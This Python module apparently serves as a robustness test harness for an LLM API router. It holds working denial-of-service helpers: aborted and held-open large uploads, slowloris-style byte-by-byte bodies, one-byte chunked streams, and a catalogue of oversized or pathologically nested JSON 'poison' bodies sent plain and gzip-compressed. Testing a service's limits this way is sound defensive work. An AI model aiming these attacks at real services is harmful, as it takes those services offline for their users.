"""Attacks with request bodies that consume a router's memory or time.

Each attack takes a few seconds and returns the router's responses.
"""

import asyncio
import gzip
from collections import Counter
from collections.abc import AsyncIterator, Iterable, Mapping
from contextlib import asynccontextmanager, suppress

import orjson

CHAT = "/v1/chat/completions"
MESSAGE = {"role": "user", "content": "hello"}
BODY_BYTES = 15 << 20
DEADLINE_S = 60.0
BYTE_INTERVAL_S = 0.1


class Attacker:
    """One connection to the router's HTTP port."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self._writer = writer

    async def send(self, data: bytes) -> None:
        """Send bytes. Raises ConnectionError if the router has ended the connection."""
        self._writer.write(data)
        await self._writer.drain()

    async def status(self) -> int | None:
        """Return the status of the next response; None if the connection ends without one."""
        try:
            line = await self.reader.readline()
        except ConnectionError:
            return None
        return int(line.split()[1]) if line else None


@asynccontextmanager
async def attacker(address: str) -> AsyncIterator[Attacker]:
    """Connect to a host and port; abort the connection on exit."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        yield Attacker(reader, writer)
    finally:
        writer.transport.abort()


def head(num_bytes: int, path: str = CHAT, headers: Mapping[str, str] | None = None) -> bytes:
    """Return the head of a request with a body of `num_bytes`."""
    given = {"host": "attacked", "content-type": "application/json", "content-length": num_bytes, **(headers or {})}
    return "\r\n".join(
        [f"POST {path} HTTP/1.1", *(f"{name}: {value}" for name, value in given.items()), "", ""]
    ).encode()


async def aborted_uploads(address: str, num_uploads: int = 60, headers: Mapping[str, str] | None = None) -> None:
    """Send many large bodies one after another, each incomplete, and abort each connection."""
    part = b"x" * (1 << 20)
    for _ in range(num_uploads):
        async with attacker(address) as connection:
            with suppress(ConnectionError):  # the router refused it
                await connection.send(head(BODY_BYTES + 1, headers=headers))
                for _ in range(BODY_BYTES // len(part)):
                    await connection.send(part)


async def held_uploads(
    address: str,
    num_uploads: int = 60,
    num_bytes: int = BODY_BYTES,
    headers: Mapping[str, str] | None = None,
    num_held: int = 0,
    time_s: float = 2.0,
) -> Counter[int | None]:
    """Send many large, incomplete bodies at once, and hold them until the router has refused all but `num_held` or the
    time is up. Returns the number of responses by status; None: no response.
    """

    async def hold() -> int | None:
        async with attacker(address) as connection:
            with suppress(ConnectionError):
                await connection.send(head(num_bytes + 1, headers=headers) + b"x" * num_bytes)
            return await connection.status()

    uploads = [asyncio.create_task(hold()) for _ in range(num_uploads)]
    with suppress(TimeoutError):
        async with asyncio.timeout(time_s):
            pending = set(uploads)
            while len(pending) > num_held:
                _, pending = await asyncio.wait(pending, return_when=asyncio.FIRST_COMPLETED)
    for upload in uploads:
        upload.cancel()
    results = await asyncio.gather(*uploads, return_exceptions=True)
    return Counter(each if isinstance(each, int) else None for each in results)


async def slow_bodies(address: str, num_clients: int = 50, time_s: float = 3.0) -> Counter[int | None]:
    """Send bodies byte by byte for `time_s`. Returns the number of responses by status; None: no response."""

    async def dribble() -> int | None:
        async with attacker(address) as connection:
            status = asyncio.create_task(connection.status())
            with suppress(ConnectionError):
                await connection.send(head(1000))
                for _ in range(max(1, int(time_s / BYTE_INTERVAL_S))):
                    await asyncio.wait((status,), timeout=BYTE_INTERVAL_S)
                    if status.done():
                        break
                    await connection.send(b" ")
            if status.done():
                return await status
            status.cancel()
            return None

    return Counter(await asyncio.gather(*(dribble() for _ in range(num_clients))))


async def tiny_chunks(address: str, num_clients: int = 8, time_s: float = 3.0) -> None:
    """Send bodies in chunks of a byte, as fast as the router reads them."""
    part = b"1\r\nx\r\n" * (1 << 14)

    async def send() -> None:
        async with attacker(address) as connection:
            with suppress(ConnectionError, TimeoutError):
                async with asyncio.timeout(time_s):
                    chunked = head(0).replace(b"content-length: 0", b"transfer-encoding: chunked")
                    await connection.send(chunked)
                    while True:
                        await connection.send(part)

    await asyncio.gather(*(send() for _ in range(num_clients)))


def poisons() -> Mapping[str, tuple[str, bytes]]:
    """Return bodies that take long to parse, to check, or to refuse: path and body by name."""
    chat = {
        "messages with unknown fields": {"messages": [{**MESSAGE, "x": 1}] * 16_000},
        "as many as are taken": {"messages": [{**MESSAGE, "x": 1}] * 8_192},
        "parts of a message": {"messages": [{"role": "user", "content": [{"type": "text", "text": "a"}] * 16_000}]},
        "messages with a null": {"messages": [{**MESSAGE, "name": None}] * 8_000},
        "unknown fields": {"messages": [MESSAGE], **{f"x{place}": [{}] * 400 for place in range(250)}},
        "invalid biases": {"messages": [MESSAGE], "logit_bias": {f"x{place}": "" for place in range(4096)}},
        "a field of lists": {"messages": [{**MESSAGE, "x": [[]] * 100_000}]},
        "braces in a grammar": {"messages": [MESSAGE], "guided_grammar": 'root ::= "a" #' + "{" * 130_000},
        "many tools": {
            "messages": [MESSAGE],
            "tools": [{"type": "function", "function": {"name": f"f{place}"}} for place in range(1024)],
            "tool_choice": "required",
        },
        "template options": {"messages": [MESSAGE], "chat_template_kwargs": {"x": [{"y": 1}] * 60_000}},
    }
    completions = {
        "lists of one": b"[" + b"[1]," * 100_000 + b"[1]]",
        "token ids": b"[" + b"12345," * 500_000 + b"1]",
        "small numbers": b"[" + b"1," * (8 << 20) + b"1]",
        "empty texts": b"[" + b'"",' * (5 << 20) + b'""]',
        "empty objects": b"[" + b"{}," * (5 << 20) + b"{}]",
        "no end": b"[" * (1 << 20),
        "escapes": b'"' + b"\\\\" * (7 << 20) + b'"',
        "a long text": b'"' + b"a " * (7 << 20) + b'"',
    }
    return {name: (CHAT, orjson.dumps(body)) for name, body in chat.items()} | {
        name: ("/v1/completions", b'{"prompt":' + prompt + b"}") for name, prompt in completions.items()
    }


async def poison_bodies(address: str, names: Iterable[str] = ()) -> Mapping[str, int | None]:
    """Send each body that takes long, plain and compressed. Returns the statuses by name."""
    statuses: dict[str, int | None] = {}
    for name, (path, body) in poisons().items():
        if names and name not in names:
            continue
        packed = await asyncio.to_thread(gzip.compress, body, 1)
        for sent, headers in ((body, {}), (packed, {"content-encoding": "gzip"})):
            async with attacker(address) as connection, asyncio.timeout(DEADLINE_S):
                with suppress(ConnectionError):
                    await connection.send(head(len(sent), path, headers) + sent)
                statuses[name if sent is body else f"{name}, compressed"] = await connection.status()
    return statuses
